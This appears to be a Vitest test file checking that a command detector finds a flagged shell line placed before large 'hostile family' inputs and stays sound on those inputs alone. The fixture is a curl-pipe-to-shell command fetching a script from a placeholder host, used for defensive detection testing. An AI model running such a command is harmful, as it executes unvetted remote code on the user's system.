import { describe, expect, it } from "vitest";
import { families } from "../../bench/hostile.js";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
const SIZE = 20_000;

describe("hostile families", { timeout: 120_000 }, () => {
  it.each(Object.keys(families))("%s: a command before them is found", async (name) => {
    const detector = await sharedDetector();
    const text = BEFORE + (families[name]?.(SIZE) ?? "");
    const detection = detector.detect(text);
    assertSound(text, detection);
    expect(detection.findings[0]?.text).toBe(FLAGGED);
  });

  it.each(Object.keys(families))("%s: read completely when alone", async (name) => {
    const text = families[name]?.(SIZE) ?? "";
    assertSound(text, (await sharedDetector()).detect(text));
  });
});
